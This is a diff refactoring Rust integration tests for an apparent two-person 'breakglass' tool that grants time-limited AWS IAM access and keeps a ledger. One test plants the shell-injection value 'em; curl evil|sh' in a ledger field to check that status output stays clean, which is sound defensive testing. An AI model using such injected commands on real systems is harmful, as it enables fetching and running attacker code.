@@ -2,36 +2,11 @@
 
 use std::process::{Command, Output};
 
-use rig::aws::{Account, Creds};
-use rig::night::Night;
-use rig::office::Office;
+use rig::aws::Account;
 use rig::pty::{End, Person, Signal};
 use serde_json::Value;
 
-use crate::PROGRAM;
-
-fn night(name: &str) -> Night {
-    Night::new(PROGRAM, name, &["alice", "bob"]).plugged(&["alice", "bob"])
-}
-
-fn open(office: &Office, window: &str) -> Person {
-    let mut person = office
-        .person(&["open", "prod.age", "--for", window, "--reason", "INC-1", "--again", "more", "--hold"]);
-    office.quorum(&mut person, 2);
-    person.expect("left");
-    person
-}
-
-/// On-call staff's own profile, beside no other.
-fn with_profile(office: &Office, who: &Creds, arguments: &[&str]) -> Command {
-    let _ = std::fs::create_dir(office.path(".aws"));
-    std::fs::write(office.path(".aws/credentials"), who.profile("oncall")).unwrap();
-    let mut command = office.command(arguments);
-    for name in ["AWS_SHARED_CREDENTIALS_FILE", "AWS_CONFIG_FILE"] {
-        command.env_remove(name);
-    }
-    command
-}
+use crate::two_of_two;
 
 fn told(mut command: Command) -> (Option<i32>, Value, String) {
     let Output { status, stdout, stderr } = command.output().unwrap();
@@ -42,10 +17,10 @@ fn told(mut command: Command) -> (Option<i32>, Value, String) {
 
 #[test]
 fn before_any_window_there_is_none() {
-    let night = night("never");
-    let (code, _, said) = told(night.office.command(&["status"]));
+    let vault = two_of_two("never").all_plugged();
+    let (code, _, said) = told(vault.site.command(&["status"]));
     assert!(code == Some(0) && said.contains("no window was ever opened"), "{said}");
-    let (code, json, _) = told(night.office.command(&["status", "prod.age", "--json"]));
+    let (code, json, _) = told(vault.site.command(&["status", "prod.age", "--json"]));
     assert_eq!(code, Some(0));
     assert_eq!((&json["event"], &json["may_be_open"]), (&"status".into(), &false.into()), "{json}");
     assert_eq!(json["targets"][0]["state"], "closed", "{json}");
@@ -53,9 +28,10 @@ fn before_any_window_there_is_none() {
 
 #[test]
 fn the_ledger_knows_a_killed_run_and_its_end() {
-    let Night { office, account, .. } = night("killed-status");
-    let mut person = open(&office, "5m");
-    let (code, json, said) = told(office.command(&["status", "prod.age", "--json"]));
+    let vault = two_of_two("killed-status").all_plugged();
+    let (site, account) = (&vault.site, &vault.account);
+    let mut person = vault.open("5m").again("more").hold().until_open();
+    let (code, json, said) = told(site.command(&["status", "prod.age", "--json"]));
     assert_eq!(code, Some(10), "{said}");
     let target = &json["targets"][0];
     assert_eq!((&target["state"], &target["own"]), (&"open".into(), &true.into()), "{json}");
@@ -64,139 +40,137 @@ fn the_ledger_knows_a_killed_run_and_its_end() {
     assert!(gate.contains(&until), "{until} is the gate's own end: {gate}");
     person.send_signal(Signal::SIGKILL);
     person.wait();
-    let (code, _, said) = told(office.command(&["status"]));
+    let (code, _, said) = told(site.command(&["status"]));
     assert_eq!(code, Some(10), "{said}");
     for part in ["MAY BE OPEN until", "breakglass close", "aws iam attach-user-policy"] {
         assert!(said.contains(part), "{part}: {said}");
     }
-    let mut person = office.person(&["close", "prod.age"]);
-    office.quorum(&mut person, 2);
+    let mut person = site.person(&["close", "prod.age"]);
+    site.quorum(&mut person, 2);
     assert_eq!(person.wait(), End::Code(0), "{}", person.transcript());
-    let (code, _, said) = told(office.command(&["status"]));
+    let (code, _, said) = told(site.command(&["status"]));
     assert_eq!(code, Some(0), "nothing is open: {said}");
-    let (code, json, said) = told(office.command(&["status", "prod.age", "--json"]));
+    let (code, json, said) = told(site.command(&["status", "prod.age", "--json"]));
     assert_eq!(code, Some(1), "but its credentials are to be rotated: {said}");
     assert_eq!(json["may_be_open"], false);
     assert!(json["upkeep"]["overdue"][0].as_str().unwrap().contains("rotate"), "{json}");
-    let (_, _, said) = told(office.command(&["status", "prod.age"]));
+    let (_, _, said) = told(site.command(&["status", "prod.age"]));
     assert!(said.contains("SPENT by session") && said.contains("OVERDUE      rotate"), "{said}");
-}
-
-/// What this machine reads beside its own ledger.
-fn see(office: &Office, ledger: &std::path::Path) {
-    let config = office.path(".config/breakglass/config.json");
-    std::fs::create_dir_all(config.parent().unwrap()).unwrap();
-    std::fs::write(config, serde_json::json!({"ledgers": [ledger]}).to_string()).unwrap();
 }
 
 #[test]
 fn another_machines_open_window_counts_and_a_ledger_that_is_missing_is_not_all_well() {
-    let Night { office, .. } = night("others-ledger");
-    let other = office.path("other");
+    let vault = two_of_two("others-ledger").all_plugged();
+    let site = &vault.site;
+    let other = site.path("other");
     let arguments = ["open", "prod.age", "--for", "5m", "--reason", "INC-1", "--hold"];
-    let mut command = office.command(&arguments);
+    let mut command = site.command(&arguments);
     command.env("BREAKGLASS_STATE", &other);
     let mut person = Person::run(command);
-    office.quorum(&mut person, 2);
+    site.quorum(&mut person, 2);
     person.expect("left");
-    let (code, json, _) = told(office.command(&["status", "prod.age", "--json"]));
+    let (code, json, _) = told(site.command(&["status", "prod.age", "--json"]));
     assert_eq!((code, &json["may_be_open"]), (Some(0), &false.into()), "this machine knows of none: {json}");
-    see(&office, &other.join("ledger.jsonl"));
+    site.configure(&serde_json::json!({"ledgers": [other.join("ledger.jsonl")]}));
     for arguments in [&["status", "prod.age", "--json"][..], &["status", "--json"]] {
-        let (code, json, said) = told(office.command(arguments));
+        let (code, json, said) = told(site.command(arguments));
         assert_eq!(code, Some(10), "{said}");
         let target = &json["targets"][0];
         assert_eq!((&target["state"], &target["own"]), (&"open".into(), &false.into()), "{json}");
     }
     person.type_raw(b"q");
     assert_eq!(person.wait(), End::Code(0), "{}", person.transcript());
-    let (code, json, _) = told(office.command(&["status", "prod.age", "--json"]));
+    let (code, json, _) = told(site.command(&["status", "prod.age", "--json"]));
     assert_eq!(code, Some(1), "{json}");
     assert!(json["upkeep"]["spent"].is_object(), "what another machine has opened is spent: {json}");
     // And opening it here takes a reason.
     let refused =
-        office.command(&["open", "prod.age", "--for", "5m", "--reason", "x", "--hold"]).output().unwrap();
+        site.command(&["open", "prod.age", "--for", "5m", "--reason", "x", "--hold"]).output().unwrap();
     assert_eq!(refused.status.code(), Some(1));
     assert!(String::from_utf8_lossy(&refused.stderr).contains("are spent"));
 
-    see(&office, &office.path("gone.jsonl"));
-    let (code, json, said) = told(office.command(&["status", "prod.age", "--json"]));
+    site.configure(&serde_json::json!({"ledgers": [site.path("gone.jsonl")]}));
+    let (code, json, said) = told(site.command(&["status", "prod.age", "--json"]));
     assert!(code != Some(0) && said.contains("gone.jsonl"), "{json} {said}");
-    std::fs::write(office.path(".config/breakglass/config.json"), "garbage").unwrap();
-    let (code, _, said) = told(office.command(&["status", "prod.age"]));
+    std::fs::write(site.path(".config/breakglass/config.json"), "garbage").unwrap();
+    let (code, _, said) = told(site.command(&["status", "prod.age"]));
     assert!(code != Some(0) && said.contains("config.json"), "{said}");
 }
 
 #[test]
 fn a_ledger_says_nothing_that_a_shell_would_do() {
-    let Night { office, .. } = night("hostile-ledger");
-    let mut person = open(&office, "5m");
+    let vault = two_of_two("hostile-ledger").all_plugged();
+    let site = &vault.site;
+    let mut person = vault.open("5m").again("more").hold().until_open();
     person.send_signal(Signal::SIGKILL);
     person.wait();
-    let ledger = office.path("state/ledger.jsonl");
+    let ledger = site.path("state/ledger.jsonl");
     let text = std::fs::read_to_string(&ledger).unwrap();
     std::fs::write(&ledger, text.replace("\"user\":\"emergency\"", "\"user\":\"em; curl evil|sh\"")).unwrap();
-    let (code, _, said) = told(office.command(&["status"]));
+    let (code, _, said) = told(site.command(&["status"]));
     assert!(code == Some(6) && !said.contains("curl"), "{said}");
 }
 
 #[test]
 fn shares_given_in_vain_are_counted() {
-    let night = night("in-vain");
+    let vault = two_of_two("in-vain").all_plugged();
     let vain = || {
         let arguments = ["open", "prod.age", "--for", "5m", "--reason", "x", "--wait", "3s", "--hold"];
-        let mut person = night.office.person(&arguments);
-        night.office.answer(&mut person, "alice");
+        let mut person = vault.site.person(&arguments);
+        vault.site.answer(&mut person, "alice");
         assert_eq!(person.wait(), End::Code(3), "{}", person.transcript());
     };
-    night.office.pull("bob");
+    vault.site.pull("bob");
     vain();
     vain();
-    let (code, json, said) = told(night.office.command(&["status", "prod.age", "--json"]));
+    let (code, json, said) = told(vault.site.command(&["status", "prod.age", "--json"]));
     assert_eq!(code, Some(0), "{said}");
     assert_eq!((&json["upkeep"]["released"], &json["upkeep"]["spent"]), (&2.into(), &Value::Null), "{json}");
     let proofs = &json["upkeep"]["custodians"];
     assert!(proofs[0]["last"].is_string() && proofs[1]["last"].is_null(), "{json}");
-    let (_, _, said) = told(night.office.command(&["status", "prod.age"]));
+    let (_, _, said) = told(vault.site.command(&["status", "prod.age"]));
     assert!(said.contains("came to nothing: 2") && said.contains("bob never"), "{said}");
 }
 
 #[test]
 fn a_second_opening_that_was_refused_does_not_hide_the_first() {
-    let Night { office, account, .. } = night("hidden");
-    let mut person = open(&office, "5m");
+    let vault = two_of_two("hidden").all_plugged();
+    let (site, account) = (&vault.site, &vault.account);
+    let mut person = vault.open("5m").again("more").hold().until_open();
     person.send_signal(Signal::SIGKILL);
     person.wait();
-    let mut person =
-        office.person(&["open", "prod.age", "--for", "1m", "--reason", "INC-1", "--again", "more", "--hold"]);
-    office.quorum(&mut person, 2);
+    let mut person = vault.open("1m").again("more").hold().by_quorum();
     assert_eq!(person.wait(), End::Code(5), "{}", person.transcript());
-    let (code, json, said) = told(office.command(&["status", "--json"]));
+    let (code, json, said) = told(site.command(&["status", "--json"]));
     assert_eq!(code, Some(10), "{said}");
     assert_eq!(json["targets"][0]["state"], "open", "{json}");
-    let asked =
-        with_profile(&office, &account.closer, &["status", "prod.age", "--profile", "oncall", "--json"]);
+    let asked = site.with_profile(
+        "oncall",
+        &account.closer,
+        &["status", "prod.age", "--profile", "oncall", "--json"],
+    );
     let (code, json, said) = told(asked);
     assert!(code == Some(10) && json["targets"][0]["own"] == true, "it is this machine's own: {said}");
-    let close = with_profile(&office, &account.closer, &["close", "prod.age", "--profile", "oncall"]);
+    let close = site.with_profile("oncall", &account.closer, &["close", "prod.age", "--profile", "oncall"]);
     assert_eq!(told(close).0, Some(0));
-    let (code, _, said) = told(office.command(&["status"]));
+    let (code, _, said) = told(site.command(&["status"]));
     assert_eq!(code, Some(0), "{said}");
 }
 
 #[test]
 fn a_dead_laptops_window_is_found_in_iam() {
-    let Night { office, account, .. } = night("dead-laptop");
-    let mut person = open(&office, "5m");
+    let vault = two_of_two("dead-laptop").all_plugged();
+    let (site, account) = (&vault.site, &vault.account);
+    let mut person = vault.open("5m").again("more").hold().until_open();
     person.send_signal(Signal::SIGKILL);
     person.wait();
-    std::fs::remove_dir_all(office.path("state")).unwrap();
-    let (code, _, said) = told(office.command(&["status", "prod.age"]));
+    std::fs::remove_dir_all(site.path("state")).unwrap();
+    let (code, _, said) = told(site.command(&["status", "prod.age"]));
     assert_eq!(code, Some(0), "this machine's ledger is gone: {said}");
     assert!(said.contains("IAM was not asked"), "{said}");
     let ask = |json: &[&str]| {
         let arguments = [&["status", "prod.age", "--profile", "oncall"], json].concat();
-        told(with_profile(&office, &account.closer, &arguments))
+        told(site.with_profile("oncall", &account.closer, &arguments))
     };
     let (code, json, said) = ask(&["--json"]);
     assert_eq!(code, Some(10), "{said}");
@@ -210,11 +184,12 @@ fn a_dead_laptops_window_is_found_in_iam() {
 
 #[test]
 fn what_was_not_tidied_up_after_t1_is_said_and_is_not_open() {
-    let Night { office, account, .. } = night("untidy");
+    let vault = two_of_two("untidy").all_plugged();
+    let (site, account) = (&vault.site, &vault.account);
     let now = account.now();
     account.put_window("Sfeedfacefeedface", now - 600, now - 60);
     let arguments = ["status", "prod.age", "--profile", "oncall"];
-    let (code, _, said) = told(with_profile(&office, &account.closer, &arguments));
+    let (code, _, said) = told(site.with_profile("oncall", &account.closer, &arguments));
     assert!(code == Some(1) && said.contains("not at rest"), "{said}");
     // A gate without an end is none of ours, and nobody knows until when it holds.
     let anything = serde_json::json!({"Version": "2012-10-17", "Statement": [
@@ -222,34 +197,36 @@ fn what_was_not_tidied_up_after_t1_is_said_and_is_not_open() {
     let gate = serde_json::json!({"UserName": account.user, "PolicyName": rig::aws::GATE,
         "PolicyDocument": anything.to_string()});
     account.root("put_user_policy", gate);
-    let (code, _, said) = told(with_profile(&office, &account.closer, &arguments));
+    let (code, _, said) = told(site.with_profile("oncall", &account.closer, &arguments));
     assert!(code == Some(10) && said.contains("MAY BE OPEN"), "{said}");
 }
 
 #[test]
 fn a_profile_of_another_account_or_of_none_says_so() {
-    let Night { aws, office, .. } = night("other-profile");
+    let vault = two_of_two("other-profile").all_plugged();
+    let (aws, site) = (&vault.aws, &vault.site);
     let other: Account = aws.seed("other");
     let arguments = ["status", "prod.age", "--profile", "oncall"];
-    let (code, _, said) = told(with_profile(&office, &other.closer, &arguments));
+    let (code, _, said) = told(site.with_profile("oncall", &other.closer, &arguments));
     assert!(code == Some(5) && said.contains(&other.id), "{said}");
     let arguments = ["status", "prod.age", "--profile", "nobody"];
-    let (code, _, said) = told(with_profile(&office, &other.closer, &arguments));
+    let (code, _, said) = told(site.with_profile("oncall", &other.closer, &arguments));
     assert!(code == Some(2) && said.contains("profile nobody"), "{said}");
 }
 
 #[test]
 fn ledger_and_iam_stand_in_for_each_other() {
-    let Night { office, account, .. } = night("stand-in");
-    let mut person = open(&office, "5m");
+    let vault = two_of_two("stand-in").all_plugged();
+    let (site, account) = (&vault.site, &vault.account);
+    let mut person = vault.open("5m").again("more").hold().until_open();
     person.send_signal(Signal::SIGKILL);
     person.wait();
-    let ask = || with_profile(&office, &account.closer, &["status", "prod.age", "--profile", "oncall"]);
+    let ask = || site.with_profile("oncall", &account.closer, &["status", "prod.age", "--profile", "oncall"]);
     let mut alone = ask();
     alone.env("AWS_ENDPOINT_URL", "http://127.0.0.1:9");
     let (code, _, said) = told(alone);
     assert!(code == Some(10) && said.contains("was not reached") && said.contains("does not tell"), "{said}");
-    let ledger = office.path("state/ledger.jsonl");
+    let ledger = site.path("state/ledger.jsonl");
     let text = std::fs::read_to_string(&ledger).unwrap();
     std::fs::write(&ledger, text.replacen("INC-1", "INC-2", 1)).unwrap();
     let (code, _, said) = told(ask());
@@ -257,35 +234,36 @@ fn ledger_and_iam_stand_in_for_each_other() {
     account.put_to_rest();
     let (code, _, said) = told(ask());
     assert!(code == Some(6), "the ledger is damaged all the same: {said}");
-    let (code, _, said) = told(office.command(&["status"]));
+    let (code, _, said) = told(site.command(&["status"]));
     assert!(code == Some(6) && !said.contains("ever opened"), "{said}");
 }
 
 #[test]
 fn what_standard_output_does_not_take_is_no_success() {
-    let night = night("full");
-    let mut command = night.office.command(&["status", "prod.age", "--json"]);
+    let vault = two_of_two("full").all_plugged();
+    let mut command = vault.site.command(&["status", "prod.age", "--json"]);
     command.stdout(std::fs::File::options().write(true).open("/dev/full").unwrap());
     assert_eq!(command.output().unwrap().status.code(), Some(1));
 }
 
 #[test]
 fn longer_than_planned_is_closed_and_opened_again_with_the_reason_on_record() {
-    let Night { office, account, .. } = night("again");
-    let mut person = open(&office, "5m");
+    let vault = two_of_two("again").all_plugged();
+    let (site, account) = (&vault.site, &vault.account);
+    let mut person = vault.open("5m").again("more").hold().until_open();
     person.type_raw(b"q");
     assert_eq!(person.wait(), End::Code(0), "{}", person.transcript());
     let arguments =
         ["open", "prod.age", "--for", "5m", "--reason", "INC-1", "--again", "not done yet", "--hold"];
-    let mut person = office.person(&arguments);
-    office.quorum(&mut person, 2);
+    let mut person = site.person(&arguments);
+    site.quorum(&mut person, 2);
     person.expect("left");
     person.type_raw(b"q");
     assert_eq!(person.wait(), End::Code(0), "{}", person.transcript());
-    let ledger = std::fs::read_to_string(office.path("state/ledger.jsonl")).unwrap();
+    let ledger = std::fs::read_to_string(site.path("state/ledger.jsonl")).unwrap();
     assert!(ledger.contains("\"again\":\"not done yet\""), "{ledger}");
     assert!(account.rest().at_rest());
     // Never longer than the vault says, however often.
     let long = ["open", "prod.age", "--for", "5h", "--reason", "x", "--again", "y", "--hold"];
-    assert_eq!(office.command(&long).output().unwrap().status.code(), Some(2));
+    assert_eq!(site.command(&long).output().unwrap().status.code(), Some(2));
 }
